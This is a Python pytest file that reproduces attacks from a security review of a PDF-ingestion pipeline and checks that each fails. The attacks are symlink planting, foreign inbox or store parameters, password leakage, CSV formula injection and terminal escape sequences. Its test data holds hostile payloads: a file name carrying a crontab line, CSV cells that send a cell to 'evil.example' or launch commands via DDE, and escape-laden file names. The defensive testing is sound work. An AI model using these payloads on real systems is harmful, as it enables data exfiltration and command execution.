"""The attacks of the security review, each reproduced and shown to fail.

* a link planted in the inbox's failed/ (or the folder itself a link) makes filing away write
  outside the inbox;
* a flow run of the served deployment carrying another inbox or store moves files out of it / creates
  a database there; the API answers anyone, and any web page (CORS *);
* a password in the store URL ends up in Prefect's database, its logs or the command's output;
* CSV cells such as `=HYPERLINK(…)` run when a spreadsheet opens the export;
* an ESC in a file name or report text reaches the terminal.

The fast tests need nothing running; the slow ones start `pipeline ingest` / `pipeline serve` (and
with them a Prefect server) in sessions of their own, killed as a whole.
"""

from __future__ import annotations

import base64
import io
import json
import logging
import os
import queue
import signal
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager, redirect_stdout
from pathlib import Path

os.environ.setdefault("PREFECT_SERVER_ANALYTICS_ENABLED", "false")  # before Prefect is imported

import pandas as pd  # noqa: E402
import pytest  # noqa: E402

from flows.server import kill_group, make_private  # noqa: E402
from pipeline.ingest import (  # noqa: E402
    FileOutcome,
    RefusedRun,
    UnsafeInbox,
    check_served_run,
    file_away,
    inbox_files,
    open_store,
    served_env,
    store_ref,
)
from pipeline.safety import SecretsFilter, csv_cell, mask_secrets, printable, write_csv  # noqa: E402
from pipeline.store import Store  # noqa: E402
from pipeline.store.exports import export  # noqa: E402
from testkit.contracts import synthetic_doc  # noqa: E402
from testkit.files import REPO, make_not_pdf  # noqa: E402

SEED_GOV = REPO / "samples" / "seed-gov.pdf"
ESC_NAME = "bad\x1b[2J\x1b]0;owned\x07.pdf"  # clear the screen, set the window title
FAILED_OUTCOME = dict(status="failed", sha256="ab" * 32, reason="not a PDF (no %PDF- header)")


# -- the inbox -----------------------------------------------------------------------------------------


def _inbox_with(tmp_path: Path, name: str) -> tuple[Path, Path]:
    inbox, outside = tmp_path / "inbox", tmp_path / "outside"
    inbox.mkdir()
    outside.mkdir()
    make_not_pdf(inbox / name)
    return inbox, outside


def test_a_link_planted_in_failed_writes_nothing_outside_the_inbox(tmp_path: Path) -> None:
    # The probe: failed/<name>.reason.txt a dangling link to a file of the attacker's choosing, and a
    # submitted file whose name carries the text to write there.
    name = "x\n* * * * * root sh -c evil\n.pdf"
    inbox, outside = _inbox_with(tmp_path, name)
    (inbox / "failed").mkdir()
    target = outside / "crontab"
    (inbox / "failed" / (name + ".reason.txt")).symlink_to(target)  # dangling: exists() is False
    (inbox / "failed" / name).symlink_to(outside / "moved-here.pdf")

    moved = file_away(inbox / name, FileOutcome(str(inbox / name), **FAILED_OUTCOME), inbox)

    assert not target.exists() and list(outside.iterdir()) == []  # nothing written, nothing moved there
    assert moved == inbox / "failed" / "x\n* * * * * root sh -c evil\n.2.pdf"
    assert moved.read_bytes().startswith(b"PK\x03\x04") and not moved.is_symlink()
    reason = (inbox / "failed" / (moved.name + ".reason.txt")).read_text(encoding="utf-8")
    assert reason.startswith("not a PDF") and "文件：x\\n* * * * * root sh -c evil\\n.pdf" in reason
    assert (inbox / "failed" / (name + ".reason.txt")).is_symlink()  # the planted links are left as they were
    assert stat.S_IMODE((inbox / "failed" / (moved.name + ".reason.txt")).stat().st_mode) & 0o022 == 0


def test_processed_or_failed_as_a_link_is_refused(tmp_path: Path) -> None:
    inbox, outside = _inbox_with(tmp_path, "report.pdf")
    (inbox / "failed").symlink_to(outside, target_is_directory=True)
    with pytest.raises(UnsafeInbox, match="not a real directory"):
        file_away(inbox / "report.pdf", FileOutcome(str(inbox / "report.pdf"), **FAILED_OUTCOME), inbox)
    assert list(outside.iterdir()) == [] and (inbox / "report.pdf").exists()  # the file waits in the inbox

    (inbox / "processed").write_text("a file, not a folder")
    with pytest.raises(UnsafeInbox):
        file_away(inbox / "report.pdf", FileOutcome(str(inbox / "report.pdf"), "ok"), inbox)
    assert (inbox / "report.pdf").exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a folder owned by somebody else")
def test_a_subfolder_owned_by_somebody_else_is_refused(tmp_path: Path) -> None:
    inbox, _ = _inbox_with(tmp_path, "report.pdf")
    (inbox / "processed").mkdir()
    os.chown(inbox / "processed", 65534, 65534)  # nobody
    with pytest.raises(UnsafeInbox, match="owned by uid 65534"):
        file_away(inbox / "report.pdf", FileOutcome(str(inbox / "report.pdf"), "ok"), inbox)
    assert (inbox / "report.pdf").exists() and list((inbox / "processed").iterdir()) == []


def test_a_link_in_the_inbox_is_not_taken_and_a_move_replaces_nothing(tmp_path: Path) -> None:
    inbox, outside = _inbox_with(tmp_path, "report.pdf")
    secret = outside / "secret.pdf"
    secret.write_bytes(b"%PDF- not yours")
    (inbox / "link.pdf").symlink_to(secret)
    assert inbox_files(inbox) == [str(inbox / "report.pdf")]  # a link could point anywhere readable

    (inbox / "processed").mkdir()
    (inbox / "processed" / "report.pdf").symlink_to(outside / "elsewhere.pdf")  # dangling
    moved = file_away(inbox / "report.pdf", FileOutcome(str(inbox / "report.pdf"), "ok"), inbox)
    assert moved == inbox / "processed" / "report.2.pdf" and moved.is_file() and not moved.is_symlink()
    assert sorted(p.name for p in outside.iterdir()) == ["secret.pdf"]
    # a link handed in as if it were an inbox file is not moved either
    assert file_away(inbox / "link.pdf", FileOutcome(str(inbox / "link.pdf"), "ok"), inbox) is None
    assert (inbox / "link.pdf").is_symlink()


# -- the served flow's parameters ------------------------------------------------------------------------


def test_a_served_run_takes_only_its_own_inbox_and_store(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inbox, foreign = tmp_path / "inbox", tmp_path / "foreign"
    inbox.mkdir()
    foreign.mkdir()
    db = f"sqlite:///{tmp_path / 'reports.db'}"
    # outside a service (a flow called from Python) the caller is trusted
    monkeypatch.delenv("PIPELINE_SERVED_INBOX", raising=False)
    assert check_served_run(str(foreign), None) == foreign.resolve()

    for key, value in served_env(inbox, db).items():
        monkeypatch.setenv(key, value)
    assert check_served_run(str(inbox), None) == inbox.resolve()
    assert check_served_run(str(inbox), db) == inbox.resolve()
    (tmp_path / "link").symlink_to(foreign, target_is_directory=True)
    for other in (foreign, inbox / ".." / "foreign", tmp_path / "link", inbox / "processed", tmp_path):
        with pytest.raises(RefusedRun, match="refused: this service serves the inbox"):
            check_served_run(str(other), None)
    with pytest.raises(RefusedRun, match="its own store, not to postgresql://u:\\*\\*\\*@h/x"):
        check_served_run(str(inbox), "postgresql://u:pw@h/x")
    with pytest.raises(RefusedRun, match="its own store"):
        check_served_run(str(inbox), f"sqlite:///{tmp_path / 'elsewhere.db'}")

    # an operator may allow inboxes below configured roots
    monkeypatch.setenv("PIPELINE_INBOX_ROOTS", str(tmp_path / "bureaus"))
    (tmp_path / "bureaus" / "b1").mkdir(parents=True)
    assert check_served_run(str(tmp_path / "bureaus" / "b1"), None) == (tmp_path / "bureaus" / "b1").resolve()
    with pytest.raises(RefusedRun, match="nor is it under"):
        check_served_run(str(foreign), None)


# -- secrets ---------------------------------------------------------------------------------------------


def test_passwords_are_masked_in_text_and_log_records() -> None:
    url = "postgresql+psycopg://reports:S3cr3t%40pw@db.example:5432/reports"
    assert mask_secrets(f"error: cannot open {url}!") == (
        "error: cannot open postgresql+psycopg://reports:***@db.example:5432/reports!"
    )
    assert mask_secrets("sqlite:////srv/reports.db and a@b.c") == "sqlite:////srv/reports.db and a@b.c"

    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.addFilter(SecretsFilter())
    log = logging.getLogger("test_security.masking")
    log.addHandler(handler)
    try:
        log.error("store %s", url)
        try:
            raise RuntimeError(f"connect to {url} failed")
        except RuntimeError:
            log.exception("batch failed")
    finally:
        log.removeHandler(handler)
    assert "S3cr3t" not in out.getvalue() and out.getvalue().count("reports:***@db.example") == 2


def test_a_store_ref_carries_no_password_and_opens_the_store(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pg = os.environ.get("PIPELINE_TEST_PG_URL")
    ref = store_ref("postgresql+psycopg://u:pw@127.0.0.1:1/x")
    assert ref == "postgresql+psycopg://u:***@127.0.0.1:1/x"
    # another process (a Dask worker) has no password for it unless its environment names that store
    monkeypatch.delenv("PIPELINE_DB_URL", raising=False)
    from pipeline.ingest import files

    monkeypatch.setattr(files, "_secret_urls", {})
    with pytest.raises(ValueError, match="set PIPELINE_DB_URL"):
        open_store(ref)
    if pg:  # a real server: the ref opens the very store the URL names
        from sqlalchemy.engine import make_url

        with_pw = make_url(pg).set(password="not-checked-by-trust-auth").render_as_string(hide_password=False)
        monkeypatch.setenv("PIPELINE_DB_URL", with_pw)
        assert open_store(store_ref(with_pw)).url == with_pw


def test_prefect_home_is_made_the_owners_only(tmp_path: Path) -> None:
    home = tmp_path / "prefect-home"
    (home / "storage").mkdir(parents=True)
    (home / "prefect.db").write_bytes(b"")
    os.chmod(home / "prefect.db", 0o644)
    os.chmod(home, 0o755)
    make_private(home)
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert stat.S_IMODE((home / "storage").stat().st_mode) == 0o700
    assert stat.S_IMODE((home / "prefect.db").stat().st_mode) == 0o600


# -- CSV ---------------------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    for v in HOSTILE:
        assert csv_cell(v) == "'" + v
    for v in ("-12.5", "+3", "-1,280.21", "-15.84%", "1e5", "基本支出", "a=b", "", None, 3.5, -2):
        assert csv_cell(v) == v


def test_hostile_report_text_exports_as_inert_csv(tmp_path: Path) -> None:
    doc = synthetic_doc(7)
    doc["source"]["file"] = "=cmd|' /C calc'!A0.pdf"
    doc["report"]["title"] = HOSTILE[0]
    doc["report"]["unit"] = "@SUM(A1:A9)"
    doc["figures"][0]["label"] = "+SUM(1,2)"
    doc["figures"][1]["value"] = -12.5  # a negative number is a number, not a formula
    doc["sections"][0]["title"] = "-2+3+cmd|' /C calc'!A0"
    doc["checks"][0]["message"] = "\t=1+1"
    doc["tables"][0]["rows"][1] = ["=1+1", "-390.55"]
    store = Store(f"sqlite:///{tmp_path / 'reports.db'}")
    store.save_report(doc, path=str(tmp_path / "=cmd|' /C calc'!A0.pdf"), extractor_version="t")

    paths = export(store, "csv", tmp_path / "out")
    dangerous = []
    for path in paths:
        text = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        for col in text.columns:
            for v in text[col]:
                if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not csv_cell(v) == v:
                    dangerous.append((path.name, col, v))
    assert dangerous == []
    docs = pd.read_csv(tmp_path / "out" / "documents.csv", encoding="utf-8-sig")
    assert HOSTILE[0] not in docs.to_numpy().tolist()[0] and "'" + HOSTILE[0] in docs.to_numpy().tolist()[0]
    assert "'@SUM(A1:A9)" in docs.to_numpy().tolist()[0]
    figures = pd.read_csv(tmp_path / "out" / "figures.csv", encoding="utf-8-sig")
    values = figures[
        [c for c in figures.columns if figures[c].dtype.kind == "f" and (figures[c] == -12.5).any()]
    ]
    assert not values.empty  # the negative value came back as a number
    assert "'+SUM(1,2)" in figures.to_numpy().ravel().tolist()
    cells = pd.read_csv(tmp_path / "out" / "tables.csv", encoding="utf-8-sig", dtype=str)
    assert "'=1+1" in cells.to_numpy().ravel().tolist() and "-390.55" in cells.to_numpy().ravel().tolist()


def test_query_csv_goes_through_the_same_writer(tmp_path: Path) -> None:
    from pipeline.cli.store import main

    doc = synthetic_doc(8)
    doc["report"]["unit"] = '=HYPERLINK("http://evil.example")'
    db = f"sqlite:///{tmp_path / 'reports.db'}"
    Store(db).save_report(doc, extractor_version="t")
    out = io.StringIO()
    with redirect_stdout(out):
        assert main(["query", "failing", "--db", db, "--csv"]) == 0
    df = pd.read_csv(io.StringIO(out.getvalue()))
    assert df["unit"].tolist() == ['\'=HYPERLINK("http://evil.example")']
    assert df["stated"].dtype.kind == "f"
    buf = io.StringIO()
    write_csv(pd.DataFrame({"=x": ["-1"]}), buf)
    assert buf.getvalue().splitlines() == ["'=x", "-1"]


# -- terminals ---------------------------------------------------------------------------------------------


def test_control_characters_are_printed_escaped() -> None:
    assert printable(ESC_NAME) == "bad\\x1b[2J\\x1b]0;owned\\x07.pdf"
    assert printable("报告\u202egpj.exe") == "报告\\u202egpj.exe"  # a right-to-left override
    assert printable("基本支出 828.69万元") == "基本支出 828.69万元"


def test_query_output_escapes_what_a_report_carries(tmp_path: Path) -> None:
    from pipeline.cli.store import main

    doc = synthetic_doc(9)
    doc["report"]["unit"] = "单位\x1b[31m红"
    db = f"sqlite:///{tmp_path / 'reports.db'}"
    Store(db).save_report(doc, path=str(tmp_path / ESC_NAME), extractor_version="t")
    out = io.StringIO()
    with redirect_stdout(out):
        assert main(["query", "failing", "--db", db]) == 0
    shown = out.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown
    assert "单位\\x1b[31m红" in shown


def test_the_terminal_table_escapes_what_a_report_carries() -> None:
    from pipeline.cli.store import Shown, print_rich

    out = io.StringIO()  # not a terminal: rich adds no escapes of its own, so any would be the report's
    print_rich(
        Shown(
            "单位\x1b[31m红", ["file", "message"], [[ESC_NAME, "[bold]不是标记[/bold]\x07"]], wide={"message"}
        ),
        out,
    )
    shown = out.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown
    assert "单位\\x1b[31m红" in shown and "[bold]不是标记[/bold]\\x07" in shown  # rich markup printed as text


# -- the real thing: `pipeline ingest`, `pipeline serve` ---------------------------------------------------


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    drop = {"PREFECT_API_URL", "PREFECT_API_AUTH_STRING", "PIPELINE_DB_URL", "PIPELINE_SERVED_INBOX"}
    env = {k: v for k, v in os.environ.items() if k not in drop and not k.startswith("PREFECT_SERVER_API")}
    env.update(
        PREFECT_HOME=str(tmp_path / "prefect-home"),
        PREFECT_SERVER_ANALYTICS_ENABLED="false",
        PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS="240",
        **extra,
    )
    return env


def _files_containing(folder: Path, secret: bytes) -> list[str]:
    return [str(p) for p in folder.rglob("*") if p.is_file() and secret in p.read_bytes()]


def _unreadable_by_others(home: Path) -> None:
    assert stat.S_IMODE(home.stat().st_mode) & 0o077 == 0
    for p in home.rglob("*"):
        if not p.is_symlink():
            assert stat.S_IMODE(p.stat().st_mode) & 0o077 == 0, p


@pytest.mark.slow
def test_ingest_with_a_password_url_leaves_it_nowhere(tmp_path: Path) -> None:
    secret = "Pw-" + base64.b32encode(os.urandom(10)).decode()
    pg = os.environ.get("PIPELINE_TEST_PG_URL")
    if pg:  # a reachable server (trust auth ignores the password): the batch runs through
        from sqlalchemy.engine import make_url

        url = make_url(pg).set(password=secret).render_as_string(hide_password=False)
    else:  # nobody listens: the run fails at the store, where error messages quote what they were given
        url = f"postgresql+psycopg://reports:{secret}@127.0.0.1:9/reports"
    make_not_pdf(tmp_path / ESC_NAME)
    proc = subprocess.run(
        [sys.executable, "-m", "pipeline", "ingest", str(tmp_path / ESC_NAME), "--db", url, "--workers", "1"],
        env=_env(tmp_path), capture_output=True, text=True, timeout=400, cwd=tmp_path,
    )  # fmt: skip
    output = proc.stdout + proc.stderr
    assert proc.returncode == (0 if pg else 3), output  # 3: the store could not be had
    assert secret not in output
    home = tmp_path / "prefect-home"
    assert (home / "prefect.db").exists()
    assert _files_containing(tmp_path, secret.encode()) == []  # prefect.db, its WAL, logs, the store
    _unreadable_by_others(home)
    if pg:
        assert "\x1b" not in output and "bad\\x1b[2J" in output  # the failed file, printed escaped


@pytest.mark.slow
def test_ingest_progress_and_summary_print_an_esc_name_escaped(tmp_path: Path) -> None:
    make_not_pdf(tmp_path / ESC_NAME)
    db = f"sqlite:///{tmp_path / 'reports.db'}"
    proc = subprocess.run(
        [sys.executable, "-m", "pipeline", "ingest", str(tmp_path / ESC_NAME), "--db", db, "--workers", "1"],
        env=_env(tmp_path), capture_output=True, text=True, timeout=400, cwd=tmp_path,
    )  # fmt: skip
    output = proc.stdout + proc.stderr
    assert proc.returncode == 0, output
    assert "\x1b" not in output and "\x07" not in output
    assert "failed    bad\\x1b[2J\\x1b]0;owned\\x07.pdf (not a PDF" in output  # the progress line
    assert "bad\\x1b[2J\\x1b]0;owned\\x07.pdf: not a PDF" in output  # the summary


def _lines(proc: subprocess.Popen) -> queue.Queue:
    q: queue.Queue = queue.Queue()

    def pump() -> None:
        for line in proc.stdout:  # type: ignore[union-attr]
            q.put(line)

    threading.Thread(target=pump, daemon=True).start()
    return q


@contextmanager
def _served(tmp_path: Path, inbox: Path, db: str) -> Iterator[tuple[str, str, subprocess.Popen, list[str]]]:
    """`pipeline serve` with the local server it starts; yields its API URL, auth string, process, output."""
    cmd = [sys.executable, "-m", "pipeline", "serve", "--inbox", str(inbox), "--cron", "0 2 * * *",
           "--db", db, "--min-age", "0"]  # fmt: skip
    env = _env(tmp_path, PREFECT_RUNNER_POLL_FREQUENCY="1")
    proc = subprocess.Popen(
        cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True,
        cwd=tmp_path,
    )  # fmt: skip
    seen: list[str] = []
    try:
        lines = _lines(proc)
        api = auth_file = None
        deadline = time.monotonic() + 180
        while api is None or auth_file is None:
            line = lines.get(timeout=max(0.1, deadline - time.monotonic()))
            seen.append(line)
            if line.startswith("started a local Prefect server: "):
                api = line.split(": ", 1)[1].split()[0] + "/api"
            if line.startswith("its API asks for the auth string in "):
                auth_file = Path(line.rsplit(" ", 1)[1].strip())
        assert stat.S_IMODE(auth_file.stat().st_mode) == 0o600
        yield api, auth_file.read_text().strip(), proc, seen
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(60)
            except subprocess.TimeoutExpired:
                pass
        kill_group(proc)


def _request(url: str, method: str = "GET", headers: dict[str, str] | None = None, body: dict | None = None):
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read()


@pytest.mark.slow
def test_serve_protects_its_api_and_refuses_a_foreign_inbox(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inbox, foreign = tmp_path / "inbox", tmp_path / "foreign"
    inbox.mkdir()
    foreign.mkdir()
    make_not_pdf(foreign / "somebody-elses.pdf")
    secret = "Pw-" + base64.b32encode(os.urandom(10)).decode()
    # the served store: nobody listens there, and no run here needs it (the foreign one is refused first)
    db = f"postgresql+psycopg://reports:{secret}@127.0.0.1:9/reports"
    with _served(tmp_path, inbox, db) as (api, auth, proc, seen):
        # no auth string: no answer, whoever asks; the health check alone is open
        assert _request(api + "/health")[0] == 200
        assert _request(api + "/deployments/name/ingest_inbox/inbox")[0] == 401
        # a state-changing request without auth (and without a CSRF token) is turned away too
        status, _, _ = _request(api + "/deployments/filter", "POST", {"Content-Type": "application/json"}, {})
        assert status in (401, 403)
        basic = {"Authorization": "Basic " + base64.b64encode(auth.encode()).decode()}
        assert _request(api + "/deployments/name/ingest_inbox/inbox", headers=basic)[0] in (200, 404)
        # a web page elsewhere gets no CORS grant (Prefect's default is "*")
        _, headers, _ = _request(api + "/deployments/filter", "OPTIONS", {
            "Origin": "http://evil.example", "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type,authorization"})  # fmt: skip
        assert "access-control-allow-origin" not in {k.lower() for k in headers}

        monkeypatch.setenv("PREFECT_API_AUTH_STRING", auth)
        from prefect import get_client
        from prefect.deployments import run_deployment
        from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings

        with temporary_settings(updates={PREFECT_API_URL: api, PREFECT_API_AUTH_STRING: auth}):
            with get_client(sync_client=True) as client:
                deadline = time.monotonic() + 180
                while True:
                    try:
                        dep = client.read_deployment_by_name("ingest_inbox/inbox")
                        break
                    except Exception:
                        assert time.monotonic() < deadline and proc.poll() is None, "".join(seen)
                        time.sleep(0.5)
            assert dep.parameters["db_url"] is None and secret not in json.dumps(dep.parameters)
            run = run_deployment(
                dep.id, parameters={"inbox": str(foreign), "db_url": f"sqlite:///{tmp_path / 'planted.db'}"},
                timeout=300, poll_interval=1,
            )  # fmt: skip
            assert run.state is not None and run.state.is_failed(), (run.state, "".join(seen))
            with get_client(sync_client=True) as client:
                logs = [entry.message for entry in client.read_logs() if entry.flow_run_id == run.id]
            assert any("refused: this service serves the inbox" in m for m in logs), logs
        assert sorted(p.name for p in foreign.iterdir()) == ["somebody-elses.pdf"]  # nothing moved
        assert not (tmp_path / "planted.db").exists()  # no database created
    output = "".join(seen)
    assert secret not in output
    assert _files_containing(tmp_path, secret.encode()) == []
    _unreadable_by_others(tmp_path / "prefect-home")


def test_extract_and_audit_errors_print_an_esc_name_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from pipeline.cli import main

    bad = make_not_pdf(tmp_path / ESC_NAME)
    assert main(["extract", str(bad)]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "bad\\x1b[2J\\x1b]0;owned\\x07.pdf" in err

    assert main(["audit", str(bad), "--out", str(tmp_path / "audit")]) == 0
    err = capsys.readouterr().err
    assert "\x1b" not in err and "bad\\x1b[2J" in err
